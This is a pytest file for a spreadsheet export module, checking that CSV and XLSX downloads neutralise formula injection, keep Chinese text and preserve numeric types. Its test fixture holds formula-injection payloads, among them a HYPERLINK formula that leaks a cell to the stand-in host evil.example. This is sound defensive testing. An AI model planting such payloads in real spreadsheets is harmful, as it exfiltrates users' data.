"""data/export.py: what a user downloads is exactly the filtered rows, opens with
Chinese intact, keeps numbers as numbers, and cannot run as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import polars as pl
import pytest
from polars.testing import assert_frame_equal

from data.export import FORMULA_PREFIXES, neutralise, to_csv, to_xlsx
from queries import watchlist
from queries.filters import Filters

HOSTILE = pl.DataFrame(
    {
        "customer_id": ["C1", "C2", "C3", "C4", "C5", "C6", "C7", "C8"],
        "name": [
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
            "+SUM(1,2)",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "华东精密机械有限公司",
            "Plain & Co = fine",  # a formula sign later in the text is harmless
        ],
        "exposure": [-5.0, 10.5, 0.0, 1e9, 2.25, 3.0, 4.0, 5.0],
        "max_dpd": pl.Series([0, 30, -1, 90, 1, 2, 3, 4], dtype=pl.Int32),
        "as_of": [date(2026, 3, 31)] * 8,
        "triggers": [["overdue"], [], ["legal", "overdue"], None, ["=cmd"], [], ["overdue"], []],
    }
)
NEUTRALISED = [
    '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "'+SUM(1,2)",
    "'-2+3",
    "'@SUM(A1:A9)",
    "'\t=1+1",
    "'\r=1+1",
    "华东精密机械有限公司",
    "Plain & Co = fine",
]


def read_csv(data: bytes) -> list[list[str]]:
    """The file as a spreadsheet would read it: UTF-8 with its byte-order mark."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_formula_prefix_is_neutralised_and_only_text_changes():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    out = neutralise(HOSTILE.drop("triggers"))
    assert out["name"].to_list() == NEUTRALISED
    # numbers, including negative ones, are untouched and keep their types
    assert out["exposure"].to_list() == HOSTILE["exposure"].to_list()
    assert out.schema == HOSTILE.drop("triggers").schema


def test_csv_holds_the_rows_neutralised_with_chinese_intact():
    data = to_csv(HOSTILE)
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = read_csv(data)
    assert rows[0] == ["customer_id", "name", "exposure", "max_dpd", "as_of", "triggers"]
    assert [r[1] for r in rows[1:]] == NEUTRALISED
    assert rows[7][1] == "华东精密机械有限公司"
    assert [r[2] for r in rows[1:]] == [
        "-5.0",
        "10.5",
        "0.0",
        "1000000000.0",
        "2.25",
        "3.0",
        "4.0",
        "5.0",
    ]
    assert [r[3] for r in rows[1:]] == ["0", "30", "-1", "90", "1", "2", "3", "4"]
    # list cells become text, and that text is neutralised as well
    assert [r[5] for r in rows[1:]] == [
        "overdue",
        "",
        "legal, overdue",
        "",
        "'=cmd",
        "",
        "overdue",
        "",
    ]


def test_xlsx_keeps_numbers_as_numbers_and_text_as_inert_text():
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(HOSTILE, sheet="watchlist")))
    sheet = book["watchlist"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("customer_id", "name", "exposure", "max_dpd", "as_of", "triggers")
    # The file stores a carriage return as the OOXML escape _x000D_, which Excel reads back as one.
    assert [r[1].replace("_x000D_", "\r") for r in rows[1:]] == NEUTRALISED
    assert [r[2] for r in rows[1:]] == [-5, 10.5, 0, 1e9, 2.25, 3, 4, 5]
    for cell in sheet["B"][1:]:
        assert cell.data_type == "s"  # a string, never a formula ("f")
    for cell in sheet["C"][1:] + sheet["D"][1:]:
        assert cell.data_type == "n"
    assert sheet["E2"].is_date


def test_export_of_filtered_watchlist_equals_the_query_rows(demo_con):
    as_of = demo_con.sql("select max(as_of) from month_grid").fetchall()[0][0]
    filters = {"grades": ("C", "D", "E"), "triggers": ("overdue", "limit_breach")}
    rows = watchlist.members(
        demo_con, Filters(as_of=as_of), **filters, limit=watchlist.EXPORT_LIMIT
    ).drop("matching")
    expected_ids = {
        r[0]
        for r in demo_con.sql(
            "select customer_id from customer_month where as_of = $d and on_watchlist and grade in "
            "('C', 'D', 'E') and len(list_intersect(triggers, ['overdue', 'limit_breach'])) > 0",
            params={"d": as_of},
        ).fetchall()
    }
    assert set(rows["customer_id"]) == expected_ids and rows.height == len(expected_ids) > 0

    flat = neutralise(rows.with_columns(pl.col("triggers").list.join(", ")))
    back = pl.read_csv(io.BytesIO(to_csv(rows)), try_parse_dates=True, schema_overrides=flat.schema)
    assert_frame_equal(back, flat)
    sheet = pl.read_excel(io.BytesIO(to_xlsx(rows)))
    assert sheet.height == rows.height
    assert sheet["customer_id"].to_list() == rows["customer_id"].to_list()
    assert sheet["exposure"].to_list() == pytest.approx(rows["exposure"].to_list())


def test_an_empty_selection_exports_just_the_header():
    assert read_csv(to_csv(HOSTILE.clear())) == [list(HOSTILE.columns)]
    rows = list(openpyxl.load_workbook(io.BytesIO(to_xlsx(HOSTILE.clear()))).active.values)
    assert rows == [tuple(HOSTILE.columns)]
